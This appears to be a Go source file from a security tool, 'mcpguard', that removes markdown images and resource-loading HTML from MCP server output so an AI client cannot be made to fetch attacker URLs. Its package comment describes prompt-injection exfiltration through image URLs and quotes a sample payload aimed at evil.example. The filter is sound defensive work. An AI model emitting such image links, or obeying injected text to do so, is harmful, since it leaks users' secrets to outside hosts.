@@ -1,0 +1,204 @@
+// Package links removes what makes a client fetch a URL on its own from
+// text an MCP server sends: markdown images (inline, reference-style) and
+// HTML that loads a resource (<img src>, srcset, <source>, <video poster>,
+// <link href>, CSS url() in a style attribute or a <style> element, ...)
+// whose host is not allowlisted. The client renders the markdown and
+// fetches the image, so an injected result can carry data out in the URL
+// (![x](https://evil.example/?q=SECRET)) with no click. Links are kept
+// unless the filter neutralises them (opt-in): a click is needed, but the
+// URL may still carry data.
+//
+// Markdown is read by a CommonMark parser (goldmark), HTML by the HTML5
+// tokenizer of golang.org/x/net/html; whatever was removed, the result is
+// parsed again, and a string that still holds a forbidden image after a
+// few rounds is replaced whole, so a parser differential fails closed.
+package links
+
+import (
+	"sort"
+	"strings"
+	"unsafe"
+
+	"github.com/mcpguard/mcpguard/rules/rawjson"
+)
+
+// Options configures a Filter.
+type Options struct {
+	// KeepImages leaves images alone.
+	KeepImages bool
+	// AllowImageHosts are hosts images may load from ("*.example.com"
+	// for subdomains).
+	AllowImageHosts []string
+	// NeutraliseLinks removes markdown links and <a href> to hosts not in
+	// AllowLinkHosts, keeping their text.
+	NeutraliseLinks bool
+	AllowLinkHosts  []string
+}
+
+// Filter applies Options. It is immutable and safe for concurrent use.
+type Filter struct {
+	images, links bool
+	imageHosts    hostSet
+	linkHosts     hostSet
+}
+
+// New makes a Filter; nil when it has nothing to do.
+func New(o Options) *Filter {
+	if o.KeepImages && !o.NeutraliseLinks {
+		return nil
+	}
+	return &Filter{images: !o.KeepImages, links: o.NeutraliseLinks,
+		imageHosts: newHostSet(o.AllowImageHosts), linkHosts: newHostSet(o.AllowLinkHosts)}
+}
+
+// Removal is one thing a Filter removed: "image" or "link", and the host.
+type Removal struct {
+	Kind string
+	Host string
+}
+
+// edit replaces s[start:end].
+type edit struct {
+	start, end int
+	with       string
+}
+
+// ImageStandIn and LinkStandIn are the text that replaces what was removed.
+func ImageStandIn(host string) string { return "[image removed: host " + host + "]" }
+func LinkStandIn(host string) string  { return "[link removed: host " + host + "]" }
+
+// WholeStandIn replaces a string whose images could not be removed one by
+// one.
+const WholeStandIn = "[content removed: it holds an image or link mcpguard could not remove safely]"
+
+const maxRounds = 3
+
+// Apply returns s without the images (and, when neutralising, links) to
+// hosts not allowed, and what it removed. Applying it to its own output
+// changes nothing.
+func (f *Filter) Apply(s string) (string, []Removal) {
+	if f == nil || !f.mayHold(s) {
+		return s, nil
+	}
+	var removed []Removal
+	for round := 0; round < maxRounds; round++ {
+		edits, rs := f.findAll(s)
+		if len(edits) == 0 {
+			return s, removed
+		}
+		removed = append(removed, rs...)
+		s = applyEdits(s, edits)
+	}
+	if edits, _ := f.findAll(s); len(edits) > 0 {
+		return WholeStandIn, append(removed, Removal{Kind: "content", Host: "(several)"})
+	}
+	return s, removed
+}
+
+func (f *Filter) findAll(s string) ([]edit, []Removal) {
+	var edits []edit
+	var rs []Removal
+	if mayHoldHTML(s, f.links) {
+		e, r := f.html(s)
+		edits, rs = append(edits, e...), append(rs, r...)
+	}
+	if mayHoldMarkdown(s, f.links) {
+		e, r := f.markdown(s)
+		edits, rs = append(edits, e...), append(rs, r...)
+	}
+	return edits, rs
+}
+
+// applyEdits applies non-overlapping edits; of overlapping ones the one
+// that starts first (the longer, on a tie) wins, the others wait for the
+// next round.
+func applyEdits(s string, edits []edit) string {
+	sort.SliceStable(edits, func(i, j int) bool {
+		if edits[i].start != edits[j].start {
+			return edits[i].start < edits[j].start
+		}
+		return edits[i].end > edits[j].end
+	})
+	var b strings.Builder
+	at := 0
+	for _, e := range edits {
+		if e.start < at {
+			continue
+		}
+		b.WriteString(s[at:e.start])
+		b.WriteString(e.with)
+		at = e.end
+	}
+	b.WriteString(s[at:])
+	return b.String()
+}
+
+// mayHold is the cheap test: text with none of the markers of an image,
+// a resource-loading tag or (when neutralising) a link needs no parsing.
+func (f *Filter) mayHold(s string) bool {
+	return mayHoldMarkdown(s, f.links) || mayHoldHTML(s, f.links)
+}
+
+// mayHoldMarkdown reports whether s may hold a markdown image (inline, or
+// a reference and its definition), or with links, a link or an autolink.
+func mayHoldMarkdown(s string, links bool) bool {
+	if strings.Contains(s, "![") || strings.Contains(s, "]:") {
+		return true
+	}
+	return links && (strings.Contains(s, "](") || strings.Contains(s, "][") || strings.Contains(s, "]") || strings.Contains(s, ":"))
+}
+
+// tagMarkers are the tags that load something (lower case; matched
+// ignoring case, after "<").
+var tagMarkers = []string{"img", "image", "source", "input", "video", "audio", "object", "embed",
+	"iframe", "frame", "link", "script", "style", "track", "use", "feimage", "body", "table",
+	"td", "th", "svg", "picture"}
+
+// mayHoldHTML reports whether s may hold a tag that loads something, a CSS
+// url(), or (links) an <a> tag.
+func mayHoldHTML(s string, links bool) bool {
+	for i := 0; ; {
+		j := strings.IndexAny(s[i:], "<(")
+		if j < 0 {
+			return false
+		}
+		i += j
+		if s[i] == '(' {
+			if i >= 3 && strings.EqualFold(s[i-3:i], "url") {
+				return true
+			}
+			i++
+			continue
+		}
+		rest := s[i+1:]
+		if links && len(rest) > 1 && (rest[0] == 'a' || rest[0] == 'A') {
+			return true
+		}
+		for _, m := range tagMarkers {
+			if len(rest) >= len(m) && strings.EqualFold(rest[:len(m)], m) {
+				return true
+			}
+		}
+		i++
+	}
+}
+
+// RawClean reports whether no string of a JSON text (a whole message, as
+// validated by the strict parser) can hold what the filter removes,
+// looking at the raw bytes: strings that spell ASCII with \u escapes are
+// decoded first. False means: decode every string and Apply.
+func (f *Filter) RawClean(raw []byte) bool {
+	if f == nil || len(raw) == 0 {
+		return true
+	}
+	s := unsafe.String(&raw[0], len(raw))
+	if f.mayHold(s) {
+		return false
+	}
+	clean := true
+	rawjson.EachASCIIEscape(s, func(lo, hi int) bool {
+		clean = !f.mayHold(rawjson.Unescape(s[lo:hi]))
+		return clean
+	})
+	return clean
+}
